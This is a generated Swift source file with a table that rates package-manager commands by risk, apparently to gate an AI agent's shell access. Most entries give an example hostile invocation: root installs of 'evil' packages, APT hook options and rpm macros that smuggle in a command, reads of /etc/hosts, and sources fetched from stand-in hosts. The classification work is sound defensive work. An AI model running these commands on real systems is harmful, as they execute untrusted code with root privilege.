// Generated from Knowledge/capabilities/system-packages.table by `make knowledge`. Edit that file.
// swift-format-ignore-file

extension CapabilityTables {
  static let systemPackages = #"""
    add-apt-repository | critical | persist install-code privilege
      $ add-apt-repository -y ppa:evil/x
      Adds a source of packages
    apk | critical | execute install-code privilege
      $ apk add --allow-untrusted ./evil.apk
      = Bash(apk info)
      Package scripts run as root
    apt | critical | execute install-code privilege
      $ apt -o APT::Update::Pre-Invoke::=id update
      = Bash(apt list --installed)
      Options define hook commands
    apt install | critical | install-code execute privilege
      $ apt install ./evil.deb
      Package scripts run as root
    apt list | low | none
      $ apt list --installed
      Prints names
    apt search | low | none
      $ apt search x
      Prints names
    apt show | low | none
      $ apt show x
      Prints metadata
    apt-cache | low | none
      $ apt-cache search x
      Prints names
    apt-get | critical | execute install-code privilege | run
      $ apt-get -o APT::Update::Pre-Invoke::=id update
      Options define hook commands
    apt-get install | critical | execute install-code privilege
      $ apt-get install ./evil.deb
      Package scripts run as root; -o hooks may follow
    aptitude | critical | install-code execute privilege
      $ aptitude install evil
      Package scripts run as root
    brew | critical | execute install-code
      $ brew install --build-from-source ./evil.rb
      = Bash(brew list)  Bash(brew --version)
      Formulae are Ruby code
    brew install | critical | execute install-code
      $ brew install user/tap/evil
      = Bash(brew install jq)
      A tap, URL or local formula may be named
    brew list | low | none
      $ brew list --versions
      Prints names
    brew services | high | persist execute
      $ brew services start x
      = Bash(brew services list)
      Starts and registers services
    brew tap | high | install-code persist
      $ brew tap user/evil https://example.com/x.git
      Adds a source of formulae
    brew upgrade | high | install-code execute
      $ brew upgrade user/tap/evil
      Formulae are Ruby code
    choco | critical | install-code execute privilege
      $ choco install evil -y --source https://example.com
      Package scripts run as administrator
    darwin-rebuild | critical | execute privilege persist
      $ darwin-rebuild switch --flake /tmp/other
      Replaces the system configuration
    dnf | critical | execute install-code privilege
      $ dnf install ./evil.rpm
      = Bash(dnf list installed)
      Package scripts run as root
    dpkg | critical | execute install-code privilege
      $ dpkg -i ./evil.deb
      = Bash(dpkg -l)
      Package scripts run as root
    dpkg -l | low | none
      $ dpkg -l x
      Prints names
    emerge | critical | install-code execute privilege
      $ emerge evil
      Builds software as root
    flatpak | high | execute install-code
      $ flatpak run --command=id app
      = Bash(flatpak list)
      Runs applications with a chosen command
    guix | critical | execute install-code
      $ guix shell hello -- id
      * shell hello -- sh -c id
      Runs its arguments
    home-manager | critical | execute persist
      $ home-manager switch --flake /tmp/other
      Replaces the user configuration
    mas | high | install-code
      $ mas install 1
      Installs applications
    nix | critical | execute install-code
      $ nix shell nixpkgs#hello -c id
      * shell nixpkgs#hello -c sh -c id
      = Bash(nix --version)
      Shell, run and develop execute commands
    nix build | high | execute install-code
      $ nix build --impure --expr 'builtins.exec ["id"]'
      = Bash(nix build)
      Builds any expression
    nix develop | critical | execute
      $ nix develop -c sh -c id
      * -c sh -c sh -c id
      Runs a command in a development shell
    nix eval | high | read-file execute
      $ nix eval --impure --expr 'builtins.readFile /etc/hosts'
      Evaluates any expression
    nix run | critical | execute install-code
      $ nix run nixpkgs#hello
      Downloads and runs a package
    nix shell | critical | execute install-code
      $ nix shell nixpkgs#hello -c id
      * nixpkgs#hello -c sh -c id
      Runs a command with downloaded packages
    nix-build | high | execute install-code
      $ nix-build evil.nix
      Builders are code
    nix-env | high | install-code persist
      $ nix-env -i -f ./evil.nix
      Installs packages
    nix-shell | critical | execute install-code
      $ nix-shell -p hello --run id
      * -p hello --run sh -c id
      --run is a shell string
    nixos-rebuild | critical | execute privilege persist
      $ nixos-rebuild switch --flake /tmp/other
      Replaces the system configuration
    opkg | critical | install-code privilege
      $ opkg install ./evil.ipk
      Package scripts run as root
    pacman | critical | execute install-code privilege
      $ pacman -U ./evil.pkg.tar
      = Bash(pacman -Q)
      Package scripts and hooks run as root
    port | critical | install-code execute privilege
      $ port install evil
      Builds and installs software
    rpm | critical | execute install-code privilege
      $ rpm --eval '%(id)'
      = Bash(rpm -qa)
      Macros run shells, packages run scripts
    rpm -q | medium | execute
      $ rpm -q --eval '%(id)'
      Macros run programs
    scoop | critical | install-code execute
      $ scoop install https://example.com/x.json
      Manifests run scripts
    snap | critical | execute install-code privilege
      $ snap install --dangerous ./evil.snap
      = Bash(snap list)
      Installs and runs packages
    softwareupdate | high | install-code privilege
      $ softwareupdate -ia
      = Bash(softwareupdate -l)
      Installs system updates
    update-alternatives | high | privilege persist write-file
      $ update-alternatives --install /usr/bin/x x /tmp/x 1
      = Bash(update-alternatives --list editor)
      Replaces system commands
    winget | critical | install-code execute
      $ winget install --manifest ./evil.yaml
      = Bash(winget list)
      Installs software
    xbps-install | critical | install-code privilege
      $ xbps-install -R https://example.com x
      Installs software as root
    yum | critical | execute install-code privilege
      $ yum localinstall ./evil.rpm
      = Bash(yum list installed)
      Package scripts run as root
    zypper | critical | execute install-code privilege
      $ zypper install ./evil.rpm
      = Bash(zypper search x)
      Package scripts run as root
    """#
}
